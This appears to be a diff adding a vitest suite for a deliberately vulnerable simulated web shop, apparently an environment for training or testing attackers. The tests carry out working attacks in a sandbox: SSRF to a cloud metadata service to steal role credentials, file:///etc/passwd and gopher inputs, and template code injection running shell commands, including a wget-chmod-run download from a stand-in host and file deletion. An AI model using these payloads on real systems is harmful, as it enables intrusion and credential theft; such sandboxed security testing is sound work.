@@ -1,0 +1,174 @@
+import { escapeHtml } from '@fruit/isomorphic/markup/escape-html'
+import { documentServed } from '@fruit/shop/files/facts'
+import { commandRun, pageFetched, roleTokenUsed } from '@fruit/shop/machine/facts'
+import { pictureAddressSent } from '@fruit/shop/profile/facts'
+import { type FetchPage, fetchPicture, showUserName } from '@fruit/shop/profile/seams'
+import type { RunScript } from '@fruit/shop/scripts/run-script'
+import type { Client } from '@fruit/world/client'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { listenTo } from '../../testing/fact-listener.ts'
+import { flawedLearner } from '../../testing/flawed-learner.ts'
+import { postForm } from '../../testing/form-calls.ts'
+import { aMember, rowsOf } from '../../testing/members.ts'
+import { openTestApp, type TestApp } from '../../testing/test-app.ts'
+
+const facts = listenTo(commandRun, pageFetched, roleTokenUsed, pictureAddressSent, documentServed)
+let testApp: TestApp
+beforeAll(async () => {
+  testApp = await openTestApp({ shop: 'safe', catalogue: facts.catalogue })
+})
+afterAll(() => testApp.close())
+
+/** Fetches whatever an address names, and keeps it; an address without an answer is kept itself. */
+const fetchingAnything = async (address: string, _hosts: unknown, fetch: FetchPage) => {
+  try {
+    const { status, body } = await fetch(address)
+    return status < 300 ? { bytes: body, ending: 'jpg' } : { link: address }
+  } catch {
+    return { link: address }
+  }
+}
+
+/** Runs what a name holds between `#{` and `}`. */
+const runningNames = async (name: string, run: RunScript) => {
+  const code = /^#\{([\s\S]*)\}$/.exec(name)?.[1]
+  if (code === undefined) return escapeHtml(name)
+  const outcome = await run(code)
+  return escapeHtml(outcome.kind === 'value' ? String(outcome.value) : `\\${name}`)
+}
+
+const anAttacked = () => flawedLearner(testApp, [fetchPicture, fetchingAnything], [showUserName, runningNames])
+
+/** What the shop fetches for a customer who sends this address. */
+async function fetched(client: Client, id: number, imageUrl: string): Promise<string> {
+  expect((await postForm(client, '/profile/image/url', { imageUrl })).status).toBe(302)
+  return (await client.get(`/assets/public/images/uploads/${id}.jpg`)).text
+}
+
+async function shown(client: Client, code: string): Promise<string> {
+  await postForm(client, '/profile', { username: `#{${code}}` })
+  return /class="user-name">([\s\S]*?)<\/p>/.exec((await client.get('/profile')).text)![1]!
+}
+
+describe('a shop that fetches any address', () => {
+  it('leads from the metadata service to the till, whose voucher the shop takes', async () => {
+    const learner = anAttacked()
+    const { client, id } = await aMember(learner)
+    const base = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'
+    const role = await fetched(client, id, base)
+    const credentials = JSON.parse(await fetched(client, id, base + role))
+    expect(await fetched(client, id, 'http://cellar.internal/notice.txt')).toContain('till.internal')
+    const voucher = await fetched(client, id, `http://till.internal/voucher?token=${credentials.Token}`)
+    const code = /: (\S{10})$/m.exec(voucher)![1]!
+    const baskets = rowsOf<{ id: number; UserId: number }>(learner, 'Baskets')
+    const basketId = baskets.find(({ UserId }) => UserId === id)!.id
+    const taken = await client.put(`/rest/basket/${basketId}/coupon/${encodeURIComponent(code)}`)
+    expect(taken.json()).toEqual({ discount: 15 })
+    expect(facts.heardFrom(learner).some(({ fact }) => fact === roleTokenUsed.name)).toBe(true)
+  })
+
+  it('hands out another token in another world', async () => {
+    const address = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/fruit-shop-press'
+    const [one, other] = await Promise.all(
+      [anAttacked(), anAttacked()].map(async (learner) => {
+        const { client, id } = await aMember(learner)
+        return JSON.parse(await fetched(client, id, address)).Token
+      }),
+    )
+    expect(one).not.toBe(other)
+  })
+
+  it('asks itself without a socket, and what happens there happened in the visit', async () => {
+    const learner = anAttacked()
+    const { client, id } = await aMember(learner)
+    facts.heardFrom(learner)
+    expect(await fetched(client, id, 'http://localhost:3000/ftp/legal.md')).toContain('Legal notice')
+    const names = facts.heardFrom(learner).map(({ fact }) => fact)
+    expect(names).toEqual([documentServed.name, pageFetched.name, pictureAddressSent.name])
+  })
+
+  it('keeps the address where nobody answers', async () => {
+    const learner = anAttacked()
+    const { client } = await aMember(learner)
+    for (const imageUrl of [
+      'http://example.com/a.jpg',
+      'file:///etc/passwd',
+      'gopher://localhost:3000/_GET',
+      'nonsense',
+    ])
+      expect((await postForm(client, '/profile/image/url', { imageUrl })).status).toBe(302)
+    const failures = facts.heardFrom(learner).flatMap(({ fact, data }) => (fact === pageFetched.name ? [data] : []))
+    expect(failures.map((data) => (data as { failure: string }).failure)).toEqual([
+      'ENOTFOUND',
+      'EPROTO',
+      'EPROTO',
+      'EINVAL',
+    ])
+  })
+
+  it('does not ask itself without end', async () => {
+    const learner = anAttacked()
+    const { client, token } = await aMember(learner)
+    const again = `curl -s -H 'cookie: token=${token}' http://localhost:3000/profile`
+    await postForm(client, '/profile', { username: `#{require('child_process').execSync("${again}")}` })
+    const started = performance.now()
+    expect((await client.get('/profile')).status).toBe(200)
+    expect(performance.now() - started).toBeLessThan(15_000)
+  })
+})
+
+describe('a shop that runs names', () => {
+  it('calculates', async () => {
+    const { client } = await aMember(anAttacked())
+    expect(await shown(client, '7*7')).toBe('49')
+  })
+
+  it('lets the usual way to a shell through, to a shell of its own', async () => {
+    const learner = anAttacked()
+    const { client } = await aMember(learner)
+    const exec = (command: string) =>
+      shown(
+        client,
+        `global.process.mainModule.require('child_process').execSync(${JSON.stringify(command)}).toString()`,
+      )
+    expect(await exec('id; cat /etc/hostname')).toMatch(/^uid=1000\(juicer\)[\s\S]*orchard/)
+    expect(await exec('ls -a /home/bjoern')).toContain('.bash_history')
+    expect(await exec('curl -s http://cellar.internal/inventory.txt')).toContain('Shelf 1')
+    expect(facts.heardFrom(learner).filter(({ fact }) => fact === commandRun.name).length).toBeGreaterThanOrEqual(3)
+  })
+
+  it('downloads a program, runs it, and that program asks the shop', async () => {
+    const learner = anAttacked()
+    learner.inside(({ files }) =>
+      files.write(
+        '/net/pips.example/press',
+        Buffer.from('#!/bin/bash\ncurl -s "http://localhost:3000/ftp/legal.md"\n'),
+      ),
+    )
+    const { client } = await aMember(learner)
+    const command = 'wget -qO press http://pips.example/press?raw=true && chmod +x press && ./press'
+    expect(await shown(client, `require('child_process').exec('${command}')`)).toBe('[object Object]')
+    expect(facts.heardFrom(learner).map(({ fact }) => fact)).toEqual(
+      expect.arrayContaining([documentServed.name, pageFetched.name, commandRun.name]),
+    )
+    expect(learner.inside(({ files }) => files.read('/press'))).toBeDefined()
+  })
+
+  it('keeps what a command changed in this world alone', async () => {
+    const [one, other] = [anAttacked(), anAttacked()]
+    const { client } = await aMember(one)
+    await shown(client, `require('child_process').execSync('echo mine > /ftp/legal.md; rm /etc/motd')`)
+    const legal = async (learner: typeof one) => (await learner.client().get('/ftp/legal.md')).text
+    expect(await legal(one)).toBe('mine\n')
+    expect(one.inside(({ files }) => files.read('/etc/motd'))).toBeUndefined()
+    expect(await legal(other)).toContain('Legal notice')
+  })
+
+  it('stops at a limit of room', async () => {
+    const learner = anAttacked()
+    learner.inside(({ files }) => files.write('/big', new Uint8Array(32 * 1024 * 1024)))
+    const { client } = await aMember(learner)
+    const code = `require('child_process').spawnSync('sh', ['-c', 'echo x > /more']).stderr.toString()`
+    expect(await shown(client, code)).toContain('No space left')
+  })
+})
